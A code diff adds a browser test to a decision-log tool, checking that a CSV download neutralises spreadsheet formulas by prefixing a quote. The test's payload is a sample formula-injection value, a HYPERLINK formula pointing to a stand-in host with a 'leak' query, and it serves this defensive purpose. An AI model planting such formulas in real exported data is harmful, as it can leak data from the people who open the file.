@@ -96,6 +96,28 @@ def test_csv_is_named_after_the_table_with_urls_and_owner_ids(site: str, page: A
     assert first["Meeting"] == "Review meeting"
 
 
+def test_csv_shows_a_cell_a_spreadsheet_would_run_as_text(site: str, page: Any) -> None:
+    """The characters that start a formula come with the table's data, from the
+    function `dmlog list` and `dmlog review` write their CSV with (log/spreadsheet.py)."""
+    from dmlog.log import spreadsheet
+
+    page.goto(site + "docs/decisions.html")
+    formula = '=HYPERLINK("http://example.org/?leak","Click")'
+    starts = page.evaluate("""formula => {
+        const table = document.querySelector(".dmlog-datatable").dmlogTable;
+        const title = table.columns.findIndex(c => c.key === "title");
+        table.texts[table.order[0]][title] = formula;  // as a record's title would be
+        return table.data.formulaStarts;
+    }""", formula)
+    assert starts == spreadsheet.FORMULA_STARTS
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download CSV").click()
+    with open(download.value.path(), encoding="utf-8-sig") as file:
+        rows = list(csv.DictReader(file))
+    assert rows[0]["Title"] == "'" + formula
+    assert not [row for row in rows[1:] if row["Title"].startswith("'")]
+
+
 def test_without_javascript_every_row_is_there(browser: Any, site: str) -> None:
     context = browser.new_context(java_script_enabled=False)
     page = context.new_page()
